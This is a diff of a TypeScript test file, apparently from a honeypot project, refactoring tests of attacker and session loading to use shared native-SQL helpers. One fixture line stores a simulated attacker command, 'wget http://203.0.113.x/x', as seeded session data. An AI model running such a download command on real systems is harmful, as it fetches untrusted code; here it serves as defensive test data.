@@ -6,8 +6,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { q } from '../../db/raw-sql';
-import { openNative } from '../../runtime/node-database';
 import { memoryDeps } from '../../testing/memory-deps';
+import { loopTurnsDuring, nativeSql } from '../../testing/native';
 import { loadFeatures, selectIn } from './load';
 
 const dir = mkdtempSync(join(tmpdir(), 'decnet-identity-load-'));
@@ -19,17 +19,11 @@ describe('selectIn', () => {
     const remote = await memoryDeps({}, { now: 0 }, `file:${file}`);
     const ids = Array.from({ length: 2500 }, (_, i) => `a${String(i).padStart(5, '0')}`);
     await remote.rawBatch(ids.map((id, i) => q`INSERT INTO attackers (id, ip, first_seen_ms, last_seen_ms) VALUES (${id}, ${`10.0.${i >> 8}.${i & 255}`}, ${i}, ${i})`));
-    const syncSql = openNative(`file:${file}`);
-    if (!syncSql) throw new Error('the native libSQL connection is unavailable');
+    const syncSql = nativeSql(`file:${file}`);
     const local = { ...remote, syncSql };
 
-    let turns = 0;
-    let spinning = true;
-    const spin = () => spinning && (turns++, setImmediate(spin));
-    spin();
     const wanted = ids.filter((_, i) => i % 2 === 0);
-    const got = await selectIn(local, 'SELECT id, first_seen_ms FROM attackers', 'id', wanted, 'ORDER BY id');
-    spinning = false;
+    const { out: got, turns } = await loopTurnsDuring(() => selectIn(local, 'SELECT id, first_seen_ms FROM attackers', 'id', wanted, 'ORDER BY id'));
     const once = await selectIn(remote, 'SELECT id, first_seen_ms FROM attackers', 'id', wanted, 'ORDER BY id');
 
     expect(got).toHaveLength(1250);
@@ -51,8 +45,7 @@ describe('selectIn', () => {
       ...Array.from({ length: 300 }, (_, i) => q`INSERT INTO sessions (id, attacker_id, src_ip, decky, service, started_at_ms, last_seen_ms, event_count, command_count, commands_json)
         VALUES (${`s${i}`}, ${`b${String(n - i * 7).padStart(5, '0')}`}, ${ip(i * 7)}, 'web-01', 'ssh', ${i}, ${i}, 3, 1, ${JSON.stringify([{ ts: '2026-01-01T00:00:00Z', cmd: `wget http://203.0.113.${i % 5}/x` }])})`),
     ]);
-    const syncSql = openNative(`file:${file}`);
-    if (!syncSql) throw new Error('the native libSQL connection is unavailable');
+    const syncSql = nativeSql(`file:${file}`);
     const byId = <F extends { id: string }>(fs: F[]) => [...fs].sort((a, b) => a.id.localeCompare(b.id));
     const local = byId(await loadFeatures({ ...remote, syncSql }));
     expect(local).toHaveLength(n);
